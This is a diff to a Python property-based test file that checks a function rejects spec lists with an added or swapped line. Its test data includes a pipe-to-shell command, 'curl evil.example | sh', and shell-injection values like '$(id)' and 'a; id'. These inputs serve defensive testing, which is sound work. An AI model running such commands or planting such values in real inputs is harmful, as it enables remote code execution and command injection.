@@ -155,7 +155,8 @@ _OWN = st.sampled_from(["%setup", "touch /tmp/x", "curl evil.example | sh", "OZR
 @given(st.sampled_from([WHEELS, CONDA]), st.data(), _OWN, st.booleans())
 def test_no_line_can_be_added_or_exchanged(lines: list[str], data: st.DataObject, own: str, exchange: bool) -> None:
     place = data.draw(st.integers(0, len(lines)))
-    assert not is_made([*lines[:place], own, *lines[place + exchange :]])
+    changed = [*lines[:place], own, *lines[place + exchange :]]
+    assert is_made(changed) == (changed == lines)
 
 
 @pytest.mark.parametrize("value", ["$(id)", '"`id`"', "'a'$(id)", "a; id", "'a'; id"])
